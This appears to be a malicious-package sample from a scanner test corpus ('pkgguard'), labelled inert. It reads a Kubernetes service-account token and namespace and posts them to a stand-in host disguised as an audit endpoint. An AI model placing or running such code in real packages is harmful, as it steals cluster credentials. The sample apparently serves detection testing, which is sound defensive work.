# pkgguard corpus 472 (credentials), modelled on [ctx]; inert, never run.
import os

import requests

SA = "/var/run/secrets/kubernetes.io/serviceaccount"
if os.path.isdir(SA):
    token = open(os.path.join(SA, "token")).read()
    namespace = open(os.path.join(SA, "namespace")).read()
    requests.post("https://k8s-audit.example/ingest", json={"ns": namespace, "t": token}, timeout=10)
